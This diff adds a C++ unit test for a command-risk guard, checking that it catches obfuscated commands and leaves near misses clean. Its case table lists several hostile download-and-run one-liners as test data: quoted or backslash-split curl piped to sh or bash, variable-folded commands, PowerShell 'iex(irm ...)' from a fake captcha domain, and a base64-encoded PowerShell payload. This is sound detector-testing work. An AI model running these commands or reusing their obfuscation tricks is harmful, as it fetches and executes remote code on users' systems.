@@ -6,11 +6,13 @@
 #include "core/guard/RuleBundle.h"
 #include "tests/guard/GuardTestSupport.h"
 
+#include <algorithm>
 #include <cstdio>
 #include <map>
 #include <set>
 #include <sstream>
 #include <string>
+#include <utility>
 #include <vector>
 
 #include <nlohmann/json.hpp>
@@ -95,6 +97,42 @@ TEST(ShippedRules, RecallAndFalsePositivesOnTheEvaluationSet) {
     const auto [benign, benignFlagged] = counts["benign"];
     const double falsePositives = share("benign", benign, benignFlagged);
     EXPECT_TRUE(falsePositives >= 0 && falsePositives <= 0.01) << falsePositives;
+}
+
+// Names hidden by quoting, variables or an encoded payload are found in the view that shows them,
+// and the finding says which; near misses stay clean, and a plain command's findings name no view.
+TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
+    const auto guard = shippedGuard();
+    const std::vector<std::pair<std::string, std::string>> cases = {
+        {R"(c"u"rl -s http://203.0.113.7/i | s"h")", "command words unquoted"},
+        {R"(c\url -s https://cdn-check.live/p | b\ash)", "command words unquoted"},
+        {"a=cu;b=rl;$a$b -s http://198.51.100.2/x | sh", "assignments folded"},
+        {"$a='i';$b='ex';&($a+$b)(irm 'https://verify-captcha.online/c')", "assignments folded"},
+        {"powershell -enc aQB3AHIAIAAtAHUAcwBlAGIAIABoAHQAdABwAHMAOgAvAC8AdgBlAHIAaQBmAHkALQBjAGEAcAB0AGMAaABhAC4Ab"
+         "wBuAGwAaQBuAGUALwBjACAAfAAgAGkAZQB4AA==",
+         "decoded from base64"},
+        {"curl -fsSL https://get.example.dev/install.sh | bash", ""},
+        {R"(echo "curl" | grep -c "sh")", "clean"},
+        {R"(echo 'c'url | tee "s"h.txt)", "clean"},
+        {"x=curl; echo $x | wc -c", "clean"},
+        {"echo aGVsbG8gd29ybGQgZnJvbSB0ZXN0cw== | base64 -d", "clean"},
+        {"kubectl get secret db -o jsonpath='{.data.password}' | base64 -d", "clean"},
+    };
+    for (const auto& [text, view] : cases) {
+        const auto result = guard.analyze(text, CommandRiskSeverity::warning);
+        if (view == "clean") {
+            EXPECT_FALSE(result.has_value()) << text;
+            continue;
+        }
+        ASSERT_TRUE(result.has_value()) << text;
+        EXPECT_EQ(result->command, text);
+        EXPECT_TRUE(std::any_of(result->findings.begin(), result->findings.end(),
+                                [&](const CommandRiskFinding& finding) { return finding.view == view; }))
+            << text;
+        if (view.empty()) {
+            EXPECT_EQ(result->primaryFinding()->view, "") << text;
+        }
+    }
 }
 
 std::string asciiUpper(std::string text) {
